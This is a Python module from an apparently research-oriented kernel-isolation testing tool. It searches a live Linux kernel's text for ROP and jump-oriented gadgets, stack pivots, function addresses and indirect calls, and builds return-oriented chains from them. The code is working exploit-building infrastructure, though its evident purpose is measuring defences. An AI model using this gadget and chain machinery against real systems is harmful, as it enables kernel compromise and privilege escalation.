"""Payloads: gadgets, functions and branches of the kernel as it runs, and chains of them.

Why it exists: an exploit is made for one kernel. Everything it jumps to is found in the live text here, by what
it does; no address and no version stands in any exploit.

Rules of this file:
- A search that finds nothing raises `ExploitFailedError`: a row that says "detected" for a payload that never
  was would be false.
- Of several finds the lowest address is taken, so that payloads are the same in every run.
"""

import re
import struct
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING

from thinbox.address import PAGE_BYTES, U64, page_start
from thinbox.errors import ThinboxError

if TYPE_CHECKING:
    from thinbox.image.symbols import SymbolTable

RETURN = b"\xc3"
POP_RDI, POP_RSI, POP_RSP = b"\x5f\xc3", b"\x5e\xc3", b"\x5c\xc3"
POP_RDI_RBP, POP_RSI_RDI = b"\x5f\x5d\xc3", b"\x5e\x5f\xc3"
STORE_RSI_AT_RDI = b"\x48\x89\x37\xc3"
XCHG_EAX_ESP = b"\x94\xc3"
CLEAR_EAX = b"\x31\xc0\xc3"
REGISTERS = ("rax", "rcx", "rdx", "rbx", "rsp", "rbp", "rsi", "rdi", *(f"r{number}" for number in range(8, 16)))
"""By encoding (SDM vol. 2, 3.1.1.1)."""
_THUNK = re.compile(r"__x86_indirect_thunk_(r\w+)")
_LOAD = re.compile(r"(r\w+), qword ptr \[(r\w+)(?: \+ (0x[0-9a-f]+|\d+))?\]")
_POPS = re.compile(rb"(?:\x41?[\x58-\x5f]){1,6}\xc3")
_RSP, _REX_B = 4, 0x41
_LONGEST_LOOK_BACK = 20


class ExploitFailedError(ThinboxError):
    """An exploit cannot be tried: its preparation failed, or this kernel lacks what it is made of."""


def pops(registers: Iterable[int]) -> bytes:
    """Return the code that pops registers (encodings) in that order, and returns."""
    parts = [bytes([0x58 + number]) if number < 8 else bytes([0x41, 0x50 + number]) for number in registers]
    return b"".join(parts) + RETURN


def move_to(register: int, value: int) -> bytes:
    """Return the code that moves a constant into a register (encoding; SDM vol. 2B, MOV: REX.W B8+rd io)."""
    return bytes([0x48 if register < 8 else 0x49, 0xB8 + (register & 7)]) + (value & U64).to_bytes(8, "little")


@dataclass(frozen=True, slots=True)
class Loader:
    """A gadget that pops registers (encodings), in that order, and returns."""

    vaddr: int
    registers: tuple[int, ...]

    @property
    def size_bytes(self) -> int:
        """How long its code is, `ret` included."""
        return sum(1 if number < 8 else 2 for number in self.registers) + len(RETURN)

    @property
    def name(self) -> str:
        """What it does, as a record names it."""
        return "".join(f"pop {REGISTERS[number]}; " for number in self.registers) + "ret"


class LiveText:
    """The kernel's own text, as it stands in memory."""

    def __init__(self, code: bytes, symbols: "SymbolTable") -> None:
        import capstone

        self.code, self.start, self.symbols = code, int(symbols.text_start), symbols
        self._pages: dict[tuple[str, ...], frozenset[int]] = {}
        self._functions: dict[str, int] = {}
        self._loaders: list[Loader] = []
        self._decoder = capstone.Cs(capstone.CS_ARCH_X86, capstone.CS_MODE_64)
        self._entry_text = page_start(self.data("__entry_text_start")), self.data("__irqentry_text_end")
        self._thunks = {
            int(vaddr): match[1] for vaddr, _kind, name in symbols if (match := _THUNK.fullmatch(name)) is not None
        }

    def function(self, name: str) -> int:
        """Return a function's address; a static one may have a suffix of the compiler's."""
        if name not in self._functions:
            found = self.symbols.find_prefix(name)
            if found is None:
                raise ExploitFailedError(f"this kernel has no {name}")
            self._functions[name] = int(found)
        return self._functions[name]

    def pages_of(self, names: tuple[str, ...]) -> frozenset[int]:
        """Return the pages these functions begin in; names the kernel lacks are left out."""
        if names not in self._pages:
            found = (self.symbols.find_prefix(name) for name in names)
            self._pages[names] = frozenset(page_start(vaddr) for vaddr in found if vaddr is not None)
        return self._pages[names]

    def data(self, name: str) -> int:
        """Return the address of a variable."""
        found = self.symbols.find(name)
        if found is None:
            raise ExploitFailedError(f"this kernel has no {name}")
        return int(found)

    def decode(self, vaddr: int, size: int = 64) -> list[tuple[int, int, str, str]]:
        """Return (address, size, mnemonic, operands) of the instructions from `vaddr`."""
        at = vaddr - self.start
        return list(self._decoder.disasm_lite(self.code[at : at + size], vaddr))

    @property
    def copy_routine(self) -> int:
        """The routine that copies to and from users, as `_copy_to_user` calls it (alternatives patch the call)."""
        for _vaddr, _size, mnemonic, operands in self.decode(self.function("_copy_to_user")):
            if mnemonic == "call" and operands.startswith("0x"):
                return int(operands, 16)
        return self.function("copy_user_generic_unrolled")

    def saved_by(self, function: str) -> tuple[int, ...]:
        """Return the registers (encodings) that a function saves where it begins, in the order in which it pops
        them."""
        saved: list[int] = []
        for _vaddr, _size, mnemonic, operands in self.decode(self.function(function)):
            if mnemonic == "call" or mnemonic.startswith("j"):
                break
            if mnemonic == "push" and operands in REGISTERS:
                saved.insert(0, REGISTERS.index(operands))
        return tuple(saved)

    def gadgets(self, code: bytes) -> Iterator[int]:
        """Yield every place of these bytes, ascending, at any alignment of instructions."""
        at = self.code.find(code)
        while at >= 0:
            yield self.start + at
            at = self.code.find(code, at + 1)

    def gadget(self, code: bytes, wanted: Callable[[int], bool] | None = None) -> int:
        """Return the first place of these bytes in the middle of a function, and that `wanted` accepts."""
        for vaddr in self.gadgets(code):
            if self.is_inside(vaddr) and (wanted is None or wanted(vaddr)):
                return vaddr
        raise ExploitFailedError(f"this kernel's text has no gadget {code.hex(' ')} as it is needed")

    def loader(self, register: str, wanted: Callable[[int], bool] | None = None) -> Loader:
        """Return the gadget that pops `register`, and as few others as can be, and that `wanted` accepts; the stack
        pointer is popped first, or not at all."""
        for found in self.loaders(register):
            if self.is_inside(found.vaddr) and (wanted is None or wanted(found.vaddr)):
                return found
        raise ExploitFailedError(f"this kernel's text has no gadget that pops {register}, as it is needed")

    def loaders(self, register: str) -> Iterator[Loader]:
        """Yield the gadgets that pop `register`, anywhere: those that pop fewest first, then by address."""
        number = REGISTERS.index(register)
        for found in self._all_loaders():
            if number in found.registers and _RSP not in found.registers[number == _RSP :]:
                yield found

    def _all_loaders(self) -> list[Loader]:
        """Every gadget that only pops and returns: the shortest first, then by address."""
        if not self._loaders:
            for match in _POPS.finditer(self.code):
                for at in range(len(match[0]) - 1):
                    registers, high = [], 0
                    for byte in match[0][at:-1]:
                        high, last = (8, 0) if byte == _REX_B else (0, high)
                        if byte != _REX_B:
                            registers.append((byte & 7) + last)
                    self._loaders.append(Loader(self.start + match.start() + at, tuple(registers)))
            self._loaders.sort(key=lambda found: (len(found.registers), found.vaddr))
        return self._loaders

    def is_inside(self, vaddr: int) -> bool:
        """Whether this is the middle of a function, outside the entry text (which every SCI page table maps, so that
        taking a gadget there would beat isolation by an accident of the search)."""
        symbol = self.symbols.text_symbol_at(vaddr)
        start, end = self._entry_text
        return symbol is not None and symbol.start != vaddr and not start <= vaddr < end

    def indirect_call(self, function: str) -> tuple[int, str]:
        """Return (address, register) of the first indirect call in a function, through a thunk or not."""
        start = self.function(function)
        symbol = self.symbols.text_symbol_at(start)
        assert symbol is not None
        for vaddr, _size, mnemonic, operands in self.decode(start, symbol.end_exclusive - start):
            if mnemonic != "call":
                continue
            register = self._register(operands)
            if register is not None:
                return vaddr, register
        raise ExploitFailedError(f"{function} of this kernel calls nothing indirectly")

    def returns(self, function: str) -> tuple[int, ...]:
        """Return the addresses of a function's `ret` instructions."""
        start = self.function(function)
        symbol = self.symbols.text_symbol_at(start)
        assert symbol is not None
        code = self.decode(start, symbol.end_exclusive - start)
        found = tuple(vaddr for vaddr, _size, mnemonic, _operands in code if mnemonic == "ret")
        if not found:
            raise ExploitFailedError(f"{function} of this kernel does not return by `ret`")
        return found

    def _register(self, operands: str) -> str | None:
        """The register a branch goes to, None if it is a direct one."""
        if not operands.startswith("0x"):
            return operands if operands.startswith("r") else None
        return self._thunks.get(int(operands, 16))

    # -- jump-oriented gadgets ----------------------------------------------------------------------
    def loading_jumps(self) -> Iterator[tuple[int, list[tuple[str, str, int]], str]]:
        """Yield (address, loads, register) of places in the middle of functions that only load registers from
        memory and then jump to one; a load is (to, base, offset)."""
        for end in self._jumps_to_thunks():
            for back in range(4, _LONGEST_LOOK_BACK):
                vaddr = end - back
                symbol = self.symbols.text_symbol_at(vaddr)
                code = self.decode(vaddr, back + 5)
                if symbol is None or symbol.start == vaddr or not code or code[-1][0] != end:
                    continue
                loads = [_LOAD.fullmatch(operands) for _, _, mnemonic, operands in code[:-1] if mnemonic == "mov"]
                if len(loads) == len(code) - 1 and all(loads):
                    parts = [(m[1], m[2], int(m[3] or "0", 0)) for m in loads if m is not None]
                    yield vaddr, parts, self._register(code[-1][3]) or ""

    def _jumps_to_thunks(self) -> list[int]:
        """Every `jmp rel32` to an indirect thunk, ascending."""
        found = []
        at = self.code.find(b"\xe9")
        while 0 <= at <= len(self.code) - 5:
            (distance,) = struct.unpack_from("<i", self.code, at + 1)
            if self.start + at + 5 + distance in self._thunks:
                found.append(self.start + at)
            at = self.code.find(b"\xe9", at + 1)
        return found

    # -- whole functions ------------------------------------------------------------------------------
    def functions_in(self, page: int) -> list[int]:
        """Return where functions start in `page`, ascending."""
        from bisect import bisect_left

        starts = self.symbols.text_starts
        found = starts[bisect_left(starts, page) : bisect_left(starts, page + PAGE_BYTES)]
        return list(dict.fromkeys(int(vaddr) for vaddr in found))

    def harmless_functions(self, page: int) -> Iterator[int]:
        """Yield functions that start in `page`, compute in registers only and return: whoever calls them with
        whatever arguments comes back."""
        for vaddr in self.functions_in(page):
            for _at, _size, mnemonic, operands in self.decode(vaddr, 48):
                if mnemonic == "ret":
                    yield vaddr
                    break
                touches = "[" in operands and mnemonic not in ("lea", "nop")
                if mnemonic not in _QUIET or touches or "rsp" in operands:
                    break
                if mnemonic != "nop" and re.match(r"(rbx|ebx|rbp|ebp|r1[2-5]d?)\b", operands):
                    break


_QUIET = frozenset(("nop", "mov", "xor", "lea", "add", "and", "or", "shl", "shr", "movzx", "sub", "endbr64", "neg"))


class Chain:
    """Words for the stack, each with what it is called in a record."""

    def __init__(self) -> None:
        self.words: list[int] = []
        self.names: dict[int, str] = {}

    def add(self, name: str, vaddr: int, *operands: int) -> "Chain":
        """Append an address that is returned to, and what it pops."""
        self.names.setdefault(vaddr, name)
        self.words += [vaddr, *operands]
        return self

    def load(self, loader: Loader, values: dict[str, int]) -> "Chain":
        """Append a gadget that pops, and what it pops: of each register its value, zero for one that has none."""
        return self.add(loader.name, loader.vaddr, *(values.get(REGISTERS[one], 0) for one in loader.registers))

    @property
    def data(self) -> bytes:
        """The chain as bytes."""
        return pack(self.words)


def pack(words: Iterable[int]) -> bytes:
    """Return 64-bit words, little-endian."""
    return b"".join(struct.pack("<Q", word & U64) for word in words)
